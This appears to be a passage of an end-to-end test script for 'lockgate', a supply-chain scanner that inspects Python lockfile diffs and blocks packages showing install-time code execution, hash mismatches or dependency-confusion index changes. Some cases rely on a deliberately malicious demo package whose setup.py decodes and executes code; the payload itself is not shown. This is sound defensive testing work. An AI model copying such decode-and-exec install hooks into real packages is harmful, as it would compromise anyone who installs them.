#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""End-to-end tests of the lockgate binary.

    python3 tests/e2e/run_e2e.py --bin build/cmd/lockgate            # all cases
    python3 tests/e2e/run_e2e.py --bin build/cmd/lockgate --case NAME
    python3 tests/e2e/run_e2e.py --list

Each case runs in a fresh temp dir (own git repo, own nginx index on a
loopback port, own --cache-dir) and asserts lockgate's exit code and a subset
of its JSON report. The last line printed is "N passed, M failed".
Exit status: 0 all passed, 1 a failure, 77 every selected case was skipped.
"""

import argparse
import csv
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
import traceback

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import lgindex as L  # noqa: E402
import faultserver  # noqa: E402

REPO_ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
CORPUS_INDEX = os.path.join(os.path.dirname(REPO_ROOT), "shared", "corpus",
                            "malicious-dev", "index.tsv")
RUN_TIMEOUT = 60
BLOCKING = ("high", "critical")

# Variables that would steer the binary away from what a case sets up.
SCRUB_ENV = ("PIP_INDEX_URL", "UV_INDEX_URL", "UV_DEFAULT_INDEX", "NETRC", "SSL_CERT_FILE", "SSL_CERT_DIR", "CURL_CA_BUNDLE", "REQUESTS_CA_BUNDLE",
             "http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY",
             "all_proxy", "ALL_PROXY", "GIT_DIR", "GIT_WORK_TREE", "GIT_INDEX_FILE",
             "XDG_CACHE_HOME", "XDG_CONFIG_HOME",
             # CI environments the base detection reads
             "GITHUB_ACTIONS", "GITHUB_EVENT_PATH", "GITHUB_EVENT_NAME",
             "GITHUB_STEP_SUMMARY", "GITHUB_OUTPUT", "GITLAB_CI",
             "CI_MERGE_REQUEST_DIFF_BASE_SHA", "CI_COMMIT_BEFORE_SHA",
             "LOCKGATE", "LOCKGATE_FLAGS", "NO_COLOR", "LOCKGATE_LOW_SPEED_TIME")


class Fail(Exception):
    pass


class Skip(Exception):
    pass


# ------------------------------------------------------------ matching ----

ANY = object()


class OneOf:
    def __init__(self, *values):
        self.values = values

    def __repr__(self):
        return "OneOf%r" % (self.values,)


class Contains:
    """A string holding this substring."""
    def __init__(self, sub):
        self.sub = sub

    def __repr__(self):
        return "Contains(%r)" % self.sub


def _match(actual, expected, path, problems):
    """Records in problems where actual does not contain expected."""
    if expected is ANY:
        return
    if isinstance(expected, Contains):
        if not isinstance(actual, str) or expected.sub not in actual:
            problems.append("%s: got %s, expected a string with %r" % (
                path, json.dumps(actual), expected.sub))
        return
    if isinstance(expected, OneOf):
        if actual not in expected.values:
            problems.append("%s: got %s, expected one of %s" % (
                path, json.dumps(actual), json.dumps(list(expected.values))))
        return
    if isinstance(expected, dict):
        if not isinstance(actual, dict):
            problems.append("%s: got %s, expected an object" % (path, json.dumps(actual)))
            return
        for k, v in expected.items():
            if k not in actual:
                problems.append("%s.%s: missing (expected %s)" % (path, k, _show(v)))
            else:
                _match(actual[k], v, "%s.%s" % (path, k), problems)
        return
    if isinstance(expected, list):
        if not isinstance(actual, list):
            problems.append("%s: got %s, expected an array" % (path, json.dumps(actual)))
            return
        if not expected and actual:
            problems.append("%s: expected [] but got %d element(s)" % (path, len(actual)))
            return
        used = set()
        for i, e in enumerate(expected):
            hit = None
            for j, a in enumerate(actual):
                if j not in used and not _probe(a, e):
                    hit = j
                    break
            if hit is None:
                problems.append("%s: no element matches %s" % (path, _show(e)))
            else:
                used.add(hit)
        return
    if actual != expected or type(actual) is not type(expected):
        problems.append("%s: got %s, expected %s" % (path, json.dumps(actual), _show(expected)))


def _probe(actual, expected):
    p = []
    _match(actual, expected, "", p)
    return p


def _show(v):
    def enc(x):
        if x is ANY:
            return "<any>"
        if isinstance(x, OneOf):
            return "<one of %s>" % "|".join(json.dumps(y) for y in x.values)
        if isinstance(x, dict):
            return {k: enc(y) for k, y in x.items()}
        if isinstance(x, list):
            return [enc(y) for y in x]
        return x
    return json.dumps(enc(v), sort_keys=True)


# ---------------------------------------------------------- case state ----

class Result:
    def __init__(self, argv, rc, stdout, stderr, secs):
        self.argv, self.rc, self.stdout, self.stderr, self.secs = argv, rc, stdout, stderr, secs
        self._json = None

    @property
    def json(self):
        if self._json is None:
            try:
                self._json = json.loads(self.stdout)
            except ValueError as e:
                raise Fail("stdout is not JSON (%s)\n%s" % (e, self.describe()))
        return self._json

    def describe(self):
        out = ["command: " + " ".join(self.argv),
               "exit code: %s (%.2fs)" % (self.rc, self.secs)]
        so = self.stdout
        try:
            so = json.dumps(json.loads(so), indent=2, sort_keys=True)
        except ValueError:
            pass
        out.append("stdout:\n" + _indent(_clip(so, 8000)))
        if self.stderr:
            out.append("stderr:\n" + _indent(_clip(self.stderr, 3000)))
        return "\n".join(out)


def _clip(s, n):
    return s if len(s) <= n else s[:n] + "\n... (%d more bytes)" % (len(s) - n)


def _indent(s):
    return "\n".join("    " + line for line in s.splitlines()) or "    (empty)"


class Case:
    def __init__(self, name, binary, ca, tmp):
        self.name, self.bin, self.ca, self.tmp = name, binary, ca, tmp
        self.home = self.mk("home")
        self.cache = self.mk("cache")
        self._servers = []
        self._repo_n = 0
        self._runs = 0

    def mk(self, *parts):
        p = os.path.join(self.tmp, *parts)
        os.makedirs(p, exist_ok=True)
        return p

    def close(self):
        for s in self._servers:
            s.stop()

    # -- fixtures
    def server(self, **kw):
        s = L.IndexServer(self.mk("index%d" % len(self._servers)), self.ca, **kw)
        self._servers.append(s)
        return s.start()

    def fault_server(self):
        """A faultserver.FaultServer on loopback, stopped with the case."""
        fs = faultserver.FaultServer(self.ca).__enter__()
        self._servers.append(fs)
        return fs

    def repo(self, *commits):
        """A repo with one commit per {path: text} dict, in order."""
        self._repo_n += 1
        r = L.GitRepo(os.path.join(self.tmp, "repo%d" % self._repo_n), env=self.env())
        for i, files in enumerate(commits):
            r.commit(files, "commit %d" % (i + 1))
        return r

    # -- running lockgate
    def env(self, extra=None):
        e = {k: v for k, v in os.environ.items() if k not in SCRUB_ENV}
        # No test reaches the internet: the OSV API (on by default) is off
        # unless a case names the local one with --osv-url.
        e.update(HOME=self.home, NO_PROXY="*", no_proxy="*", GIT_CONFIG_NOSYSTEM="1",
                 LC_ALL="C.UTF-8", LOCKGATE_OSV_URL="")
        for k, v in (extra or {}).items():  # None removes a variable
            if v is None:
                e.pop(k, None)
            else:
                e[k] = v
        return e

    def run(self, *args, env=None, cwd=None):
        argv = [self.bin] + [str(a) for a in args]
        t0 = time.monotonic()
        try:
            p = subprocess.run(argv, cwd=cwd or self.tmp, env=self.env(env),
                               stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, timeout=RUN_TIMEOUT)
        except subprocess.TimeoutExpired as e:
            raise Fail("timed out after %ds: %s\nstderr:\n%s" % (
                RUN_TIMEOUT, " ".join(argv), _indent((e.stderr or b"").decode(errors="replace"))))
        return Result(argv, p.returncode, p.stdout.decode(errors="replace"),
                      p.stderr.decode(errors="replace"), time.monotonic() - t0)

    def check_argv(self, repo, *args, index_url, ca=True, fmt="json",
                   base="HEAD~1", head="HEAD", cache=None):
        """index_url=None: no --index-url; cache: a --cache-dir to reuse
        (default: a fresh one for every run)."""
        argv = ["check", "--repo", repo.path]
        if base:
            argv += ["--base", base]
        if head == "--staged":
            argv += ["--staged"]
        elif head:
            argv += ["--head", head]
        self._runs += 1  # a fresh cache for every run
        if index_url is not None:
            argv += ["--index-url", index_url]
        argv += ["--cache-dir", cache or self.mk("cache", str(self._runs))]
        if ca:
            argv += ["--ca-bundle", self.ca.ca_pem]
        if fmt:
            argv += ["--format", fmt]
        return argv + list(args)

    def check(self, repo, *args, index_url, ca=True, fmt="json", env=None,
              base="HEAD~1", head="HEAD", cache=None):
        return self.run(*self.check_argv(repo, *args, index_url=index_url, ca=ca,
                                         fmt=fmt, base=base, head=head, cache=cache),
                        env=env)

    # -- assertions
    def expect(self, res, rc=None, subset=None, no_findings=None, note=""):
        """rc: expected exit code (int or set); subset: JSON subset;
        no_findings: list of dicts no finding may match."""
        problems = []
        if rc is not None:
            ok = res.rc in rc if isinstance(rc, (set, tuple)) else res.rc == rc
            if not ok:
                problems.append("exit code: got %s, expected %s" % (res.rc, rc))
        if subset is not None or no_findings:
            try:
                doc = res.json
            except Fail:
                doc = None
                problems.append("stdout is not valid JSON")
            if doc is not None and subset is not None:
                _match(doc, subset, "$", problems)
            if doc is not None and no_findings:
                for bad in no_findings:
                    for f in doc.get("findings") or []:
                        if not _probe(f, bad):
                            problems.append("$.findings: unexpected %s" % json.dumps(f, sort_keys=True))
        if problems:
            raise Fail("%s\n  - %s\n%s" % (note or "mismatch", "\n  - ".join(problems),
                                           res.describe()))

    def expect_requested(self, srv, fragment, present=True):
        hits = srv.requested(fragment)
        if bool(hits) != present:
            raise Fail("access log: %s request with %r; log was:\n%s" % (
                "expected a" if present else "unexpected", fragment,
                _indent("\n".join("%s %s %d" % (r.method, r.path, r.status)
                                  for r in srv.requests()) or "(no requests)")))

    def expect_no_requests(self, srv):
        if srv.requests():
            self.expect_requested(srv, "", present=False)


CASES = {}


def case(fn):
    CASES[fn.__name__[len("case_"):]] = fn
    return fn


def reqs(*lines):
    return "".join(line + "\n" for line in lines)


def pin(art, name, version):
    return "%s==%s --hash=sha256:%s" % (name, version, art.sha256)


BENIGN = "benign-pkg"


def benign(version="1.0"):
    return L.sdist(BENIGN, version)


def finding(rule, **kw):
    d = {"rule": rule}
    d.update(kw)
    return d


# -------------------------------------------------------------- cases ----

@case
def case_malicious_added(t):
    """The demo package is added on line 3: blocked by its setup.py."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add(BENIGN, "1.0", [b])
    srv.add("demo-pkg", "1.0", [m])
    first = reqs("# pinned deps", pin(b, BENIGN, "1.0"))
    repo = t.repo({"requirements.txt": first},
                  {"requirements.txt": first + pin(m, "demo-pkg", "1.0") + "\n"})
    exec_line = L.line_of(L.demo_setup_py(), "exec(")
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "schema": 1,
        "tool": {"name": "lockgate", "version": "0.1.0"},
        "verdict": "block",
        "changes": [{"lockfile": "requirements.txt", "line": 3, "name": "demo-pkg",
                     "old": None, "new": "1.0", "kind": "added"}],
        "artifacts": [{"package": "demo-pkg", "version": "1.0", "file": m.filename,
                       "sha256": m.sha256, "verdict": "block"}],
        "findings": [
            finding("exec.decode-exec", severity="critical", package="demo-pkg",
                    version="1.0", file=m.filename, path="demo_pkg-1.0/setup.py",
                    line=exec_line, lockfile="requirements.txt", lockfile_line=3),
            finding("install.cmdclass-override", severity="medium", package="demo-pkg",
                    path="demo_pkg-1.0/setup.py", lockfile_line=3),
        ],
        "errors": [],
    })
    if len(res.json["changes"]) != 1:
        raise Fail("expected exactly one change (benign-pkg is unchanged)\n" + res.describe())
    t.expect_requested(srv, "/pypi/demo-pkg/1.0/json")
    t.expect_requested(srv, "/files/" + m.filename)
    t.expect_requested(srv, BENIGN, present=False)


@case
def case_text_format(t):
    """Text output (the demo's format) names the blocking rule and package."""
    srv = t.server()
    m = L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": pin(m, "demo-pkg", "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url, fmt="text")
    t.expect(res, rc=1)
    for word in ("exec.decode-exec", "demo-pkg", "setup.py"):
        if word not in res.stdout:
            raise Fail("text report lacks %r\n%s" % (word, res.describe()))


@case
def case_output_file(t):
    """--output FILE receives the JSON report."""
    srv = t.server()
    m = L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": pin(m, "demo-pkg", "1.0") + "\n"})
    out = os.path.join(t.tmp, "report.json")
    res = t.check(repo, "--output", out, index_url=srv.index_url)
    t.expect(res, rc=1)
    try:
        with open(out) as f:
            doc = json.load(f)
    except (OSError, ValueError) as e:
        raise Fail("--output file unreadable as JSON: %s\n%s" % (e, res.describe()))
    problems = []
    _match(doc, {"schema": 1, "verdict": "block",
                 "findings": [finding("exec.decode-exec", package="demo-pkg")]}, "$", problems)
    if problems:
        raise Fail("report file: " + "; ".join(problems) + "\n" + json.dumps(doc, indent=2))


@case
def case_benign_added(t):
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": "# nothing yet\n"},
                  {"requirements.txt": "# nothing yet\n" + pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "changes": [{"name": BENIGN, "kind": "added", "old": None, "new": "1.0", "line": 2}],
        "artifacts": [{"package": BENIGN, "version": "1.0", "file": b.filename,
                       "sha256": b.sha256, "verdict": "pass"}],
        "errors": [],
    }, no_findings=[{"severity": OneOf(*BLOCKING)}])


@case
def case_unhashed(t):
    """A pin without --hash: the sdist is fetched (not the wheel) and lock.unhashed reported."""
    srv = t.server()
    s, w = benign(), L.wheel(BENIGN, "1.0")
    srv.add(BENIGN, "1.0", [w, s])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": "benign-pkg==1.0\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "artifacts": [{"package": BENIGN, "file": s.filename, "sha256": s.sha256}],
        "findings": [finding("lock.unhashed", severity="medium", package=BENIGN,
                             lockfile_line=1)],
    }, no_findings=[{"severity": OneOf(*BLOCKING)}])
    t.expect_requested(srv, "/files/" + w.filename, present=False)


@case
def case_ca_from_env(t):
    """SSL_CERT_FILE stands in for --ca-bundle."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url, ca=False, env={"SSL_CERT_FILE": t.ca.ca_pem})
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": []})


@case
def case_tls_untrusted(t):
    """A server certificate from an unknown CA is never accepted."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url, ca=False)
    t.expect(res, rc=2, subset={"verdict": "incomplete", "errors": [{"message": ANY}]})
    t.expect_requested(srv, "/pypi/", present=False)


@case
def case_http_index_refused(t):
    """A plain-http index URL is never used: incomplete, nothing sent."""
    srv = t.server()  # speaks TLS only; a plaintext request would still be logged (400)
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url="http://127.0.0.1:%d/pypi" % srv.port)
    # Refusing it up front as a usage error (3) would be as good as incomplete (2).
    t.expect(res, rc={2, 3}, subset={"verdict": "incomplete"} if res.rc == 2 else None)
    t.expect_no_requests(srv)


@case
def case_upgraded(t):
    srv = t.server()
    b1, b2 = benign("1.0"), benign("1.1")
    srv.add(BENIGN, "1.0", [b1])
    srv.add(BENIGN, "1.1", [b2])
    repo = t.repo({"requirements.txt": pin(b1, BENIGN, "1.0") + "\n"},
                  {"requirements.txt": pin(b2, BENIGN, "1.1") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "changes": [{"name": BENIGN, "kind": "upgraded", "old": "1.0", "new": "1.1",
                     "lockfile": "requirements.txt", "line": 1}],
        "artifacts": [{"package": BENIGN, "version": "1.1", "sha256": b2.sha256}],
    })
    t.expect_requested(srv, "/pypi/benign-pkg/1.1/json")
    # The old version is read too, to compare install-time behaviour.
    t.expect_requested(srv, "/pypi/benign-pkg/1.0/json")


@case
def case_docs_parallel(t):
    """Every changed package's index document is asked for once, in the one
    batch before any file is downloaded (an upgrade's old and new versions
    share a Simple API page); the result is the same as before."""
    srv = t.server()
    names = ["par-%d" % i for i in range(6)]
    arts = {}
    for n in names:
        arts[n] = L.sdist(n, "1.0")
        srv.add(n, "1.0", [arts[n]])
    old = L.sdist("par-up", "1.0")
    new = L.sdist("par-up", "2.0")
    srv.add("par-up", "1.0", [old])
    srv.add("par-up", "2.0", [new])
    first = pin(old, "par-up", "1.0") + "\n"
    second = pin(new, "par-up", "2.0") + "\n" + "".join(
        pin(arts[n], n, "1.0") + "\n" for n in names)
    repo = t.repo({"requirements.txt": first}, {"requirements.txt": second})
    res = t.check(repo, index_url=srv.simple_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "artifacts": [{"package": n, "verdict": "pass"} for n in names + ["par-up"]],
        "errors": []})
    log = srv.requests()
    pages = [r for r in log if r.path.startswith("/simple/")]
    for n in names + ["par-up"]:
        hits = [r for r in pages if r.path == "/simple/%s/" % n]
        if len(hits) != 1:
            raise Fail("expected one request of /simple/%s/, got %d\n%s" % (
                n, len(hits), res.describe()))
    first_file = min(i for i, r in enumerate(log) if r.path.startswith("/files/"))
    last_page = max(i for i, r in enumerate(log) if r.path.startswith("/simple/"))
    if last_page > first_file:
        raise Fail("an index page was read after a download started:\n%s" % "\n".join(
            r.path for r in log))
    # A second run revalidates every page from the cache in one batch too.
    cache = t.mk("cache-par")
    t.check(repo, index_url=srv.simple_url, cache=cache)
    res = t.check(repo, index_url=srv.simple_url, cache=cache)
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": []})
    codes = [r.status for r in srv.requests()[-len(log):] if r.path.startswith("/simple/")]
    if 304 not in codes:
        raise Fail("no page was revalidated with 304: %s" % codes)


@case
def case_downgraded(t):
    srv = t.server()
    b1, b2 = benign("1.0"), benign("1.1")
    srv.add(BENIGN, "1.0", [b1])
    repo = t.repo({"requirements.txt": pin(b2, BENIGN, "1.1") + "\n"},
                  {"requirements.txt": pin(b1, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"changes": [{"name": BENIGN, "kind": "downgraded",
                                             "old": "1.1", "new": "1.0"}]})


@case
def case_removed(t):
    """A removed package is listed but never requested."""
    srv = t.server()
    b, g, f = benign(), L.sdist("gone-pkg", "2.0"), L.sdist("fresh-pkg", "1.0")
    for name, ver, a in ((BENIGN, "1.0", b), ("gone-pkg", "2.0", g), ("fresh-pkg", "1.0", f)):
        srv.add(name, ver, [a])
    repo = t.repo({"requirements.txt": reqs(pin(b, BENIGN, "1.0"), pin(g, "gone-pkg", "2.0"))},
                  {"requirements.txt": reqs(pin(b, BENIGN, "1.0"), pin(f, "fresh-pkg", "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "changes": [{"name": "gone-pkg", "kind": "removed", "old": "2.0", "new": None,
                     "lockfile": "requirements.txt", "line": 2},  # its line in the old file
                    {"name": "fresh-pkg", "kind": "added", "new": "1.0"}],
    })
    if any(a.get("package") == "gone-pkg" for a in res.json.get("artifacts") or []):
        raise Fail("removed package has an artifact\n" + res.describe())
    t.expect_requested(srv, "/pypi/fresh-pkg/1.0/json")
    t.expect_requested(srv, "gone", present=False)


@case
def case_hash_mismatch_index_digest(t):
    """Lock hash = the real file's hash, but the index JSON claims another digest."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b], digest_override={b.filename: L.sha256_hex(b"not the file")})
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "findings": [finding("hash.mismatch", severity="critical", package=BENIGN,
                             version="1.0", lockfile_line=1)],
    })


@case
def case_hash_mismatch_served_bytes(t):
    """Index JSON and lock agree, but the bytes served are a different archive."""
    srv = t.server()
    b = benign()
    swapped = L.sdist(BENIGN, "1.0", module="# swapped\n").data
    srv.add(BENIGN, "1.0", [b], serve_override={b.filename: swapped})
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "findings": [finding("hash.mismatch", severity="critical", package=BENIGN,
                             version="1.0", file=b.filename)],
    })
    t.expect_requested(srv, "/files/" + b.filename)


@case
def case_index_unreachable(t):
    b = benign()
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url="https://127.0.0.1:%d/pypi" % L.free_port())
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "errors": [{"package": BENIGN, "message": ANY}]})


@case
def case_index_404(t):
    srv = t.server()
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": "missing-pkg==1.0\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "errors": [{"package": "missing-pkg", "message": ANY}]})
    t.expect_requested(srv, "/pypi/missing-pkg/1.0/json")


@case
def case_name_canonical(t):
    """`Benign_Pkg==1.0` is looked up at /pypi/benign-pkg/1.0/json."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": "Benign_Pkg==1.0 --hash=sha256:%s\n" % b.sha256})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": []})
    t.expect_requested(srv, "/pypi/benign-pkg/1.0/json")


@case
def case_relative_file_url(t):
    """File URLs relative to the JSON document are resolved against it."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b], relative_urls=True)
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                "artifacts": [{"sha256": b.sha256}]})
    t.expect_requested(srv, "/files/" + b.filename)


@case
def case_hash_continuation_lines(t):
    """Hashes on backslash-continued lines, two files listed: both fetched."""
    srv = t.server()
    s, w = benign(), L.wheel(BENIGN, "1.0")
    srv.add(BENIGN, "1.0", [s, w])
    text = ("# via pip-compile\n"
            "benign-pkg==1.0 \\\n"
            "    --hash=sha256:%s \\\n"
            "    --hash=sha256:%s\n" % (s.sha256, w.sha256))
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": text})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "changes": [{"name": BENIGN, "kind": "added", "line": 2}],
        "artifacts": [{"file": s.filename, "sha256": s.sha256},
                      {"file": w.filename, "sha256": w.sha256}],
    })


@case
def case_other_lockfiles(t):
    """requirements-dev.txt and requirements/*.txt in subdirectories count too."""
    srv = t.server()
    m = L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"svc/requirements/base.txt": "# empty\n"},
                  {"svc/requirements/base.txt": "# empty\n" + pin(m, "demo-pkg", "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "changes": [{"lockfile": "svc/requirements/base.txt", "line": 2, "name": "demo-pkg"}],
        "findings": [finding("exec.decode-exec", lockfile="svc/requirements/base.txt",
                             lockfile_line=2)],
    })


def uv_lock(*pkgs):
    """uv.lock text for (art, name, version) entries from the default index."""
    out = ["version = 1", "revision = 3", 'requires-python = ">=3.9"', ""]
    for art, name, version in pkgs:
        out += ["[[package]]", 'name = "%s"' % name, 'version = "%s"' % version,
                'source = { registry = "https://pypi.org/simple" }',
                'sdist = { url = "https://files.invalid/%s", hash = "sha256:%s", '
                'size = 1 }' % (art.filename, art.sha256), ""]
    return "\n".join(out)


def pdm_lock(*pkgs):
    out = ["[metadata]", 'lock_version = "4.5.0"', 'content_hash = "sha256:00"', ""]
    for art, name, version in pkgs:
        out += ["[[package]]", 'name = "%s"' % name, 'version = "%s"' % version,
                'files = [', '    {file = "%s", hash = "sha256:%s"},' % (
                    art.filename, art.sha256), "]", ""]
    return "\n".join(out)


@case
def case_uv_lock_added(t):
    """A package added to uv.lock is fetched by its locked hash and blocked."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add(BENIGN, "1.0", [b])
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"uv.lock": uv_lock((b, BENIGN, "1.0"))},
                  {"uv.lock": uv_lock((b, BENIGN, "1.0"), (m, "demo-pkg", "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "changes": [{"lockfile": "uv.lock", "line": 11, "name": "demo-pkg",
                     "old": None, "new": "1.0", "kind": "added"}],
        "findings": [finding("exec.decode-exec", lockfile="uv.lock", lockfile_line=11)],
    })
    t.expect_requested(srv, BENIGN, present=False)


@case
def case_lock_two_sources(t):
    """uv.lock and Pipfile.lock entries from two indexes: each is read from
    its own index (Pipfile.lock: the named source, else the first of
    _meta.sources), in the one batch of index documents."""
    pub, corp = t.server(), t.server()
    b, c = benign(), L.sdist("corp-only", "1.0")
    pub.add(BENIGN, "1.0", [b])
    corp.add("corp-only", "1.0", [c])

    def entry(art, name, registry):
        return ["[[package]]", 'name = "%s"' % name, 'version = "1.0"',
                'source = { registry = "%s" }' % registry,
                'sdist = { url = "%s../files/%s", hash = "sha256:%s", size = 1 }' % (
                    registry, art.filename, art.sha256), ""]
    head = ["version = 1", "revision = 3", 'requires-python = ">=3.9"', ""]
    uv = "\n".join(head + entry(b, BENIGN, pub.simple_url) + entry(c, "corp-only", corp.simple_url))
    repo = t.repo({"uv.lock": "\n".join(head)}, {"uv.lock": uv})
    res = t.check(repo, index_url=None)
    t.expect(res, rc=0, subset={
        "verdict": "pass", "errors": [],
        "artifacts": [{"package": BENIGN, "sha256": b.sha256},
                      {"package": "corp-only", "sha256": c.sha256}]}, note="uv.lock")
    t.expect_requested(corp, "/simple/corp-only/")
    t.expect_requested(pub, "/simple/corp-only/", present=False)
    pipfile = {
        "_meta": {"sources": [{"name": "corp", "url": corp.simple_url, "verify_ssl": True},
                              {"name": "pub", "url": pub.simple_url, "verify_ssl": True}]},
        "default": {
            "corp-only": {"version": "==1.0", "hashes": ["sha256:" + c.sha256]},
            BENIGN: {"version": "==1.0", "index": "pub", "hashes": ["sha256:" + b.sha256]},
        }, "develop": {}}
    empty = {"_meta": pipfile["_meta"], "default": {}, "develop": {}}
    repo = t.repo({"Pipfile.lock": json.dumps(empty, indent=4)},
                  {"Pipfile.lock": json.dumps(pipfile, indent=4)})
    res = t.check(repo, index_url=None)
    t.expect(res, rc=0, subset={
        "verdict": "pass", "errors": [],
        "artifacts": [{"package": "corp-only", "sha256": c.sha256}]}, note="Pipfile.lock")


@case
def case_lock_migration(t):
    """pdm.lock replaced by uv.lock with the same packages and hashes: no
    change, no request."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"pdm.lock": pdm_lock((b, BENIGN, "1.0"))},
                  {"pdm.lock": None, "uv.lock": uv_lock((b, BENIGN, "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "changes": [], "errors": []})
    t.expect_no_requests(srv)


@case
def case_source_changed(t):
    """The same pin moves from a private index to the default one: a
    source-changed change (dependency confusion), and the file is checked."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    old = reqs("--index-url https://corp.invalid/simple", pin(b, BENIGN, "1.0"))
    repo = t.repo({"requirements.txt": old},
                  {"requirements.txt": reqs(pin(b, BENIGN, "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "changes": [{"name": BENIGN, "kind": "source-changed", "old": "1.0",
                     "new": "1.0"}],
        "artifacts": [{"package": BENIGN, "verdict": "pass"}],
        "findings": [finding("lock.source-changed", severity="high", package=BENIGN,
                             lockfile="requirements.txt", lockfile_line=1)],
    })


@case
def case_diff_command(t):
    """`lockgate diff` lists the changes of every lock format and asks the
    network nothing."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    repo = t.repo({"requirements.txt": reqs(pin(b, BENIGN, "1.0")),
                   "poetry.lock": '[[package]]\nname = "a"\nversion = "1.0"\n'},
                  {"requirements.txt": reqs(pin(b, BENIGN, "2.0")),
                   "poetry.lock": '[[package]]\nname = "a"\nversion = "0.9"\n',
                   "uv.lock": uv_lock((m, "demo-pkg", "1.0"))})
    res = t.run("diff", "--repo", repo.path, "--base", "HEAD~1", "--head", "HEAD",
                "--format", "json")
    if res.rc != 0:
        raise Fail("expected exit 0\n" + res.describe())
    got = sorted((c["name"], c["kind"], c["lockfile"]) for c in res.json["changes"])
    want = [("a", "downgraded", "poetry.lock"),
            ("benign-pkg", "upgraded", "requirements.txt"),
            ("demo-pkg", "added", "uv.lock")]
    if got != want:
        raise Fail("changes %r, expected %r\n%s" % (got, want, res.describe()))
    t.expect_no_requests(srv)


@case
def case_staged(t):
    """--staged compares HEAD with the index; the commit itself has no change."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    first = pin(b, BENIGN, "1.0") + "\n"
    repo = t.repo({"requirements.txt": first})
    repo.stage({"requirements.txt": first + pin(m, "demo-pkg", "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url, base=None, head="--staged")
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "changes": [{"name": "demo-pkg", "kind": "added", "line": 2}],
        "findings": [finding("exec.decode-exec", package="demo-pkg", lockfile_line=2)],
    })


@case
def case_pre_commit_hook(t):
    """hooks/pre-commit refuses a commit that adds a blocked package, and
